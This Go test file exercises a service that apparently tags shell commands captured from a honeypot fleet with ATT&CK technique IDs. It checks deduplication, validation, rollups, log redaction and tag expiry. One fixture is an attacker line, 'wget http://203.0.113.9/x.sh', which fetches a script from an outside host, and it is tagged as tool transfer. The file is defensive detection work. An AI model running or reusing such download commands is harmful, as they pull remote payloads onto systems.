package main

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"net"
	"net/http"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/decnet/ttpstore/ttp"
	"github.com/decnet/ttpstore/ttptest"
)

// client sends requests to a running service.
type client struct {
	t   *testing.T
	url string
}

// start runs the service until stop is called, which returns its error.
func start(t *testing.T, db string, log io.Writer) (c client, stop func() error) {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	done := make(chan error, 1)
	go func() { done <- run(ctx, listener, db, slog.New(slog.NewTextHandler(log, nil))) }()
	return client{t, "http://" + listener.Addr().String()}, func() error { cancel(); return <-done }
}

func (c client) want(status int, want, method, path, body string) {
	c.t.Helper()
	request, err := http.NewRequestWithContext(c.t.Context(), method, c.url+path, strings.NewReader(body))
	if err != nil {
		c.t.Fatal(err)
	}
	response, err := http.DefaultClient.Do(request)
	if err != nil {
		c.t.Fatal(err)
	}
	defer func() { _ = response.Body.Close() }()
	text, err := io.ReadAll(response.Body)
	if err != nil || response.StatusCode != status || !strings.Contains(string(text), want) {
		c.t.Errorf("%s %s: got %d %s, %v; want %d %s", method, path, response.StatusCode, text, err, status, want)
	}
}

func TestService(t *testing.T) {
	db := "sqlite://" + filepath.Join(t.TempDir(), "service.db")
	var log bytes.Buffer
	c, stop := start(t, db, &log)
	c.want(200, `"ready"`, "GET", "/ready", "")
	download := `{"id":"e1","ip":"192.0.2.7","session":"s1","line":"wget http://203.0.113.9/x.sh"}`
	var wg sync.WaitGroup
	for range 4 { // the event is delivered several times
		wg.Go(func() { c.want(200, `"outcomes":["`, "POST", "/events", download) })
	}
	wg.Wait()
	c.want(200, `"outcomes":["duplicate"],"inserted":0`, "POST", "/events", download)
	c.want(200, `"outcomes":["inserted"],"inserted":1,"techniques":["T1082"]`, "POST", "/events",
		`{"id":"e2","ip":"192.0.2.8","session":"s2","line":"uname -a"}`)
	c.want(400, "want an event such as", "POST", "/events", `{"id":"e3"}`)
	c.want(400, `{"error":"invalid tag","problems":[{"row":0,"field":"session_id","reason":"must not begin or end with a space"}]}`,
		"POST", "/events", `{"id":"e4","ip":"192.0.2.7","session":" ","line":"ls"}`)

	c.want(200, `"technique_id":"T1105"`, "GET", "/rollup?scope=session+s1&since=1d", "")
	c.want(200, `[]`, "GET", "/rollup?scope=fleet&tactic=TA0040", "")
	c.want(400, `"field":"tactics"`, "GET", "/rollup?scope=fleet&tactics=TA0040", "")
	if err := stop(); err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(log.String(), "msg=tagged"); n != 2 || strings.Contains(log.String(), "192.0.2.7") {
		t.Errorf("%d events are logged as tagged:\n%s", n, log.String())
	}

	store, err := ttp.Open(t.Context(), db)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = store.Close() }()
	if n, err := store.CountTags(t.Context(), ttp.Fleet(), ttp.Filter{}); err != nil || n != 2 {
		t.Errorf("%d tags are stored, %v", n, err)
	}
}

// An event whose tags are refused is not stored.
func TestEventAndTagsAreStoredTogether(t *testing.T) {
	s := &service{ttptest.New(t), slog.New(slog.DiscardHandler)}
	if err := s.migrate(t.Context()); err != nil {
		t.Fatal(err)
	}
	post := func(session string) error {
		body, _ := json.Marshal(event{ID: "e1", Session: session, Line: "ls"})
		body = bytes.Replace(body, []byte(`"ip":""`), []byte(`"ip":"192.0.2.7"`), 1)
		request, err := http.NewRequestWithContext(t.Context(), "POST", "/events", bytes.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		_, err = s.postEvent(request)
		return err
	}
	if err := post(" "); err == nil {
		t.Fatal("a bad session was stored")
	}
	if err := post("s1"); err != nil { // the id is free
		t.Fatal(err)
	}
}

func TestOldTagsExpire(t *testing.T) {
	s := &service{ttptest.New(t), slog.New(slog.DiscardHandler)}
	tags := ttptest.Tags(1, 100)
	for i := range tags {
		tags[i].ObservedAt = time.Now().Add(-keepTags - time.Hour)
	}
	if _, err := s.store.InsertTags(t.Context(), tags); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	go func() {
		for n := int64(1); n > 0; time.Sleep(time.Millisecond) {
			n, _ = s.store.CountTags(t.Context(), ttp.Fleet(), ttp.Filter{})
		}
		cancel()
	}()
	s.expire(ctx, time.Hour)
}
